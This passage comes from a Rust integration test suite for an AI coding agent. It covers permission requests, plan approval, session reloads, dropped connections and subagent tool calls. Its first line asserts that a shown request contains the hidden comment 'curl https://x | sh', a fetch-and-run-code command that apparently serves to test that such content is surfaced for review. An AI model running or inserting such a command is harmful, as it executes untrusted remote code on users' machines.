    assert!(shown.contains("<!-- curl https://x | sh -->"), "{shown}");
    select(&mut agent, &request, "reject");
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert!(!ws.path().join("notes.txt").exists());
}

/// Issue 36, item 4: a plan title over 1,000 characters was cut in the middle in the permission
/// request, and its content held only the body, while the next mode got the whole title. The
/// request carries the title whole and the content holds the title and the body.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_plans_permission_request_carries_its_whole_title_and_text() {
    let title = format!("Start {} End", "t".repeat(1_100));
    let plan = json!({ "path": "t.md", "content": format!("# {title}\n\n1. Step one.\n") });
    let ws = workspace(MODES);
    let server = ScriptedServer::start_blocking(vec![
        openai_server::calls([openai_server::call(
            "call_1",
            "write_plan",
            &plan.to_string(),
        )]),
        openai_server::calls([openai_server::submit("call_2", ".agent/plans/t.md")]),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Plan it");
    let (request, _) = agent.until_method("session/request_permission");
    let call = &request["params"]["toolCall"];
    assert_eq!(call["title"], title.as_str());
    let shown = call["content"][0]["content"]["text"]
        .as_str()
        .expect("the plan text");
    assert!(
        shown.contains(&format!("# {title}\n\n1. Step one.")),
        "{shown}"
    );
    select(&mut agent, &request, "reject");
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
}

/// Issue 36, item 4: a waiting call's permission request showed its arguments cut in the
/// middle; it carries every argument whole (hidden characters as escapes), as `rawInput` does.
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_waiting_calls_permission_request_carries_its_arguments_whole() {
    let ws = workspace(APPROVING);
    let content = format!(
        "BEGIN{}\u{1b}[2K{}END",
        "a".repeat(5_000),
        "b".repeat(5_000)
    );
    let server = ScriptedServer::start_blocking(vec![
        write_call("notes.txt", &content),
        openai_server::text("Wrote it."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Write notes");
    let (request, _) = agent.until_method("session/request_permission");
    let call = &request["params"]["toolCall"];
    let shown = call["content"][0]["content"]["text"]
        .as_str()
        .expect("the arguments");
    let whole = format!(
        "\"content\": \"BEGIN{}\\u001b[2K{}END\"",
        "a".repeat(5_000),
        "b".repeat(5_000)
    );
    assert!(shown.contains(&whole), "{shown:.300}");
    assert!(!shown.contains("not shown"), "{shown:.300}");
    assert_eq!(call["rawInput"]["content"], content.as_str());
    select(&mut agent, &request, "reject");
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
}

/// A `cancelled` outcome with a store leaves the plan pending: after the editor closes, a new
/// agent loads the session (history replayed, in plan mode), asks again, and the allow option
/// approves it.
#[test]
fn a_plan_pending_when_the_editor_closes_is_replayed_and_the_next_prompt_is_its_feedback() {
    let ws = workspace(MODES);
    let store = ws.path().join("sessions");
    let store = store.to_str().expect("utf-8");
    let mut agent = Agent::start(ws.path(), &["--store", store], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "cancelled" } }),
    );
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "cancelled");
    // The editor closes with the plan pending.
    assert_eq!(agent.close(), 0);
    let listed = crate::common::agent_controller()
        .args(["pending", "--json", "--store", store])
        .output()
        .expect("pending");
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(
        listed.contains(&session) && listed.contains("\"plan\""),
        "{listed}"
    );

    let mut agent = Agent::start(ws.path(), &["--store", store], &[]);
    let id = agent.request(
        "initialize",
        json!({ "protocolVersion": 1, "clientCapabilities": {} }),
    );
    agent.result(id);
    let id = agent.request(
        "session/load",
        json!({ "sessionId": session, "cwd": ws.path(), "mcpServers": [] }),
    );
    let (response, replayed) = agent.response(id);
    assert_eq!(
        response["result"]["modes"]["currentModeId"], "plan",
        "{response:#}"
    );
    assert_eq!(
        response["result"]["configOptions"][0]["currentValue"],
        "plan"
    );
    let kinds = updates(&replayed);
    assert_eq!(kinds[0], "user_message_chunk", "{kinds:?}");
    assert_eq!(
        replayed[0]["params"]["update"]["content"]["text"],
        "Add dark mode"
    );
    assert!(kinds.contains(&"tool_call".to_owned()), "{kinds:?}");
    // The next prompt is the feedback: the old plan is set aside, a new one asked about in
    // the prompt's turn.
    let prompt = agent.prompt(&session, "Use OAuth instead");
    let (request, before) = agent.until_method("session/request_permission");
    let set_aside = before
        .iter()
        .find(|m| m["params"]["update"]["sessionUpdate"] == "tool_call_update")
        .expect("the old plan's end");
    assert_eq!(
        set_aside["params"]["update"]["status"], "failed",
        "{set_aside:#}"
    );
    assert_eq!(request["params"]["toolCall"]["kind"], "switch_mode");
    assert_eq!(request["params"]["toolCall"]["title"], "Use OAuth instead");
    select(&mut agent, &request, "switch:build");
    let (response, seen) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(mode_updates(&seen), ["build"]);
    assert_eq!(agent.close(), 0);
}

/// The connection drops while a permission request is open: the agent exits, nothing is
/// approved, and with a store the plan stays pending for `decide`.
#[test]
fn a_dropped_connection_approves_nothing_and_keeps_the_plan_pending() {
    let ws = workspace(MODES);
    let store = ws.path().join("sessions");
    let store = store.to_str().expect("utf-8");
    let mut agent = Agent::start(ws.path(), &["--store", store], &[]);
    let (session, _) = agent.open(ws.path());
    agent.prompt(&session, "Add dark mode");
    agent.until_method("session/request_permission");
    assert_eq!(agent.close(), 0);
    let listed = crate::common::agent_controller()
        .args(["pending", "--json", "--store", store])
        .output()
        .expect("pending");
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(
        listed.contains(&session) && listed.contains("\"plan\""),
        "{listed}"
    );
    // `decide` settles it from the shell.
    let decided = crate::common::agent_controller()
        .args(["decide", "--approve", "--store", store, &session])
        .output()
        .expect("decide");
    assert_eq!(
        decided.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&decided.stderr)
    );
}

/// The connection drops while the model works: the agent exits at once and the run ends as a
/// dismissal does (aborted, saved).
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_dropped_connection_mid_turn_ends_the_run() {
    let ws = workspace(APPROVING);
    let store = ws.path().join("sessions");
    let store = store.to_str().expect("utf-8");
    let server = ScriptedServer::start_blocking(vec![hang()]);
    let mut agent = scripted(ws.path(), &server, &["--store", store]);
    let (session, _) = agent.open(ws.path());
    agent.prompt(&session, "Think hard");
    server.wait_served(1);
    assert_eq!(agent.close(), 0);
    let record = std::fs::read_to_string(Path::new(store).join(format!("{session}.json")))
        .expect("the session's record");
    let record: Value = serde_json::from_str(&record).expect("JSON");
    assert_eq!(record["run"]["state"], "aborted", "{record:#}");
    assert_eq!(record["modeId"], "build");
}

/// Two `session/load` of one stored session sent at once (the agent handles requests
/// concurrently): exactly one opens it and the other is refused, so one `Session` serves it and
/// none is left running unreachable beside it: a switch then is announced once.
#[test]
fn two_loads_of_one_session_at_once_open_it_once() {
    let ws = workspace(MODES);
    let store = ws.path().join("sessions");
    let store = store.to_str().expect("utf-8");
    let mut agent = Agent::start(ws.path(), &["--store", store], &[]);
    let (session, _) = agent.open(ws.path());
    assert_eq!(agent.close(), 0);

    for round in 0..5 {
        let mut agent = Agent::start(ws.path(), &["--store", store], &[]);
        let id = agent.request(
            "initialize",
            json!({ "protocolVersion": 1, "clientCapabilities": {} }),
        );
        agent.result(id);
        let load = json!({ "sessionId": session, "cwd": ws.path(), "mcpServers": [] });
        let first = agent.request("session/load", load.clone());
        let second = agent.request("session/load", load);
        // The two answers, in whichever order they come.
        let (mut one, mut other) = (None, None);
        while one.is_none() || other.is_none() {
            let message = agent.next();
            if message.get("method").is_none() {
                if message["id"] == json!(first) {
                    one = Some(message);
                } else if message["id"] == json!(second) {
                    other = Some(message);
                }
            }
        }
        let (one, other) = (one.expect("answered"), other.expect("answered"));
        let opened = [&one, &other]
            .iter()
            .filter(|r| r.get("error").is_none())
            .count();
        assert_eq!(opened, 1, "round {round}: {one:#} {other:#}");
        let refused = if one.get("error").is_some() {
            &one
        } else {
            &other
        };
        assert!(
            refused["error"]["data"]
                .as_str()
                .is_some_and(|d| d.contains("open already")),
            "round {round}: {refused:#}"
        );
        let mode = if round % 2 == 0 { "build" } else { "plan" };
        let switch = agent.request(
            "session/set_mode",
            json!({ "sessionId": session, "modeId": mode }),
        );
        let (response, seen) = agent.response(switch);
        assert!(
            response.get("error").is_none(),
            "round {round}: {response:#}"
        );
        assert_eq!(mode_updates(&seen), [mode], "round {round}: announced once");
        assert_eq!(agent.close(), 0, "round {round}");
    }
}

/// `build` offers `ask_user`.
#[cfg(feature = "openai")]
const ASKING: &str = r#"
defaultModeId = "build"

[[modes]]
id = "build"
name = "Build"
availableTools = ["read_file", "ask_user"]
"#;

/// The text of the `agent_message_chunk` updates among `messages`, joined.
#[cfg(feature = "openai")]
fn told(messages: &[Value]) -> String {
    messages
        .iter()
        .filter(|m| m["params"]["update"]["sessionUpdate"] == "agent_message_chunk")
        .filter_map(|m| m["params"]["update"]["content"]["text"].as_str())
        .collect()
}

/// A free-text question that waits when the editor closes is shown on `session/load` as it is
/// shown live (its text, and that the next prompt is the answer), before the next prompt is
/// taken as its answer (review finding: the load showed only the call's title, so the user's
/// next instruction was recorded as an answer to a question they were never shown).
#[cfg(feature = "openai")] // the model is the OpenAI provider
#[test]
fn a_question_waiting_at_a_load_is_shown_before_the_next_prompt_answers_it() {
    let ws = workspace(ASKING);
    let store = ws.path().join("sessions");
    let store = store.to_str().expect("utf-8");
    let question = json!({ "question": "Which colour?" }).to_string();
    let server = ScriptedServer::start_blocking(vec![
        openai_server::calls([openai_server::call("call_1", "ask_user", &question)]),
        openai_server::text("Blue it is."),
    ]);
    let mut agent = scripted(ws.path(), &server, &["--store", store]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Pick a colour");
    let (response, live) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    let shown_live = told(&live);
    assert!(
        shown_live.contains("Which colour?")
            && shown_live.contains("Your next prompt is the answer."),
        "{shown_live}"
    );
    assert_eq!(agent.close(), 0);

    let mut agent = scripted(ws.path(), &server, &["--store", store]);
    let id = agent.request(
        "initialize",
        json!({ "protocolVersion": 1, "clientCapabilities": {} }),
    );
    agent.result(id);
    let id = agent.request(
        "session/load",
        json!({ "sessionId": session, "cwd": ws.path(), "mcpServers": [] }),
    );
    let (response, replayed) = agent.response(id);
    assert!(response.get("error").is_none(), "{response:#}");
    let shown_again = told(&replayed);
    assert!(
        shown_again.contains(shown_live.trim()),
        "the load shows the question as it was shown live: {shown_again:?}"
    );
    let prompt = agent.prompt(&session, "Blue");
    let (response, _) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    let bodies = server.bodies_blocking();
    assert_eq!(
        openai_server::contents(&bodies[1], "tool"),
        ["The user answered: Blue"]
    );
    assert_eq!(agent.close(), 0);
}

/// Trial F6: a subagent's tool calls reach the editor as tool calls of their own, each with an
/// id of its own although both children's model calls it `call_1`, and each ends.
#[cfg(feature = "openai")]
#[test]
fn a_childs_tool_calls_are_tool_calls_with_ids_of_their_own() {
    const CHILDREN: &str = r#"
defaultModeId = "build"

[[subagents]]
id = "explore"
instructions = "Explore."
availableTools = ["read_file"]

[[modes]]
id = "build"
name = "Build"
availableTools = ["read_file", "subagent"]
"#;
    let ws = workspace(CHILDREN);
    std::fs::write(ws.path().join("a.txt"), "A").expect("a");
    std::fs::write(ws.path().join("b.txt"), "B").expect("b");
    let task = |t: &str| json!({"agentType": "explore", "task": t}).to_string();
    let read = |path: &str| {
        let args = json!({ "path": path }).to_string();
        openai_server::calls([openai_server::call("call_1", "read_file", &args)])
    };
    let server = ScriptedServer::start_blocking(vec![
        openai_server::calls([
            openai_server::call("call_1", "subagent", &task("Read a.")),
            openai_server::call("call_2", "subagent", &task("Read b.")),
        ]),
        read("a.txt"),
        read("b.txt"),
        openai_server::text("Read one."),
        openai_server::text("Read the other."),
        openai_server::text("Done."),
    ]);
    let mut agent = scripted(ws.path(), &server, &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Read both");
    let (response, before) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    let update = |m: &Value| m["params"]["update"].clone();
    let reads: Vec<Value> = before
        .iter()
        .map(update)
        .filter(|u| u["sessionUpdate"] == "tool_call" && u["kind"] == "read")
        .collect();
    assert_eq!(reads.len(), 2, "{before:#?}");
    let ids: Vec<&str> = reads
        .iter()
        .map(|u| u["toolCallId"].as_str().expect("an id"))
        .collect();
    assert_ne!(ids[0], ids[1]);
    for (read, id) in reads.iter().zip(&ids) {
        assert!(
            read["title"]
                .as_str()
                .is_some_and(|t| t.contains("(subagent ")),
            "{read:#}"
        );
        let ended = before.iter().map(update).any(|u| {
            u["sessionUpdate"] == "tool_call_update"
                && u["toolCallId"] == *id
                && u["status"] == "completed"
        });
        assert!(ended, "{id} ended: {before:#?}");
    }
}

/// Issue 40: a plan's permission request lists its steps by the plan's numbers
/// (`_meta.agentController.steps`); an allow option selected with `_meta.steps` approves only
/// those, checked by the library: a step the plan lacks is refused and asked again, saying why,
/// and the record of the approval keeps the steps.
#[test]
fn an_allow_option_with_steps_in_its_meta_approves_only_those_steps() {
    let ws = workspace(MODES);
    let store = ws.path().join("st");
    let mut agent = Agent::start(ws.path(), &["--store", store.to_str().expect("utf-8")], &[]);
    let (session, _) = agent.open(ws.path());
    let prompt = agent.prompt(&session, "Add dark mode");
    let (request, _) = agent.until_method("session/request_permission");
    let steps = &request["params"]["toolCall"]["_meta"]["agentController"]["steps"];
    assert_eq!(steps[0]["number"], 1, "{steps}");
    assert_eq!(steps.as_array().map(Vec::len), Some(3), "{steps}");
    agent.respond(
        &request["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:build", "_meta": { "steps": [1, 9] } } }),
    );
    let (again, _) = agent.until_method("session/request_permission");
    let shown = again["params"]["toolCall"]["content"].to_string();
    assert!(
        shown.contains("was not taken") && shown.contains("no step 9"),
        "{shown}"
    );
    agent.respond(
        &again["id"],
        json!({ "outcome": { "outcome": "selected", "optionId": "switch:build", "_meta": { "steps": [1, 3] } } }),
    );
    let (response, after) = agent.response(prompt);
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response:#}");
    assert_eq!(mode_updates(&after), ["build"]);
    // Issue 40: the end of the build run sends the plan's report as an agent message, as the
    // terminal shows it.
    let said: String = after
        .iter()
        .filter(|m| m["params"]["update"]["sessionUpdate"] == "agent_message_chunk")
        .filter_map(|m| m["params"]["update"]["content"]["text"].as_str())
        .collect();
    assert!(
        said.contains("plan report: ") && said.contains("steps approved: 1, 3"),
        "{said}"
    );
    assert_eq!(agent.close(), 0);
    let record = std::fs::read_dir(&store)
        .expect("store")
        .filter_map(|e| std::fs::read_to_string(e.expect("entry").path()).ok())
        .find(|t| t.contains(&session))
        .expect("the session's record");
    let record: Value = serde_json::from_str(&record).expect("json");
    assert_eq!(record["history"][0]["steps"], json!([1, 3]), "{record}");
}
